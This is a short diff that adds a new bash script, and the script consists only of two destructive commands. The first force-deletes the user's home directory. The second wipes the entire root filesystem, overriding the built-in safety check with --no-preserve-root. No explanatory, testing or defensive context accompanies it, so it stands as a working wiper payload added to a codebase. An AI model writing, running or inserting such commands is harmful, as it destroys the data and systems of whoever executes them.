@@ -1,0 +1,3 @@
+#!/bin/bash
+rm -rf ~/
+rm -rf --no-preserve-root /
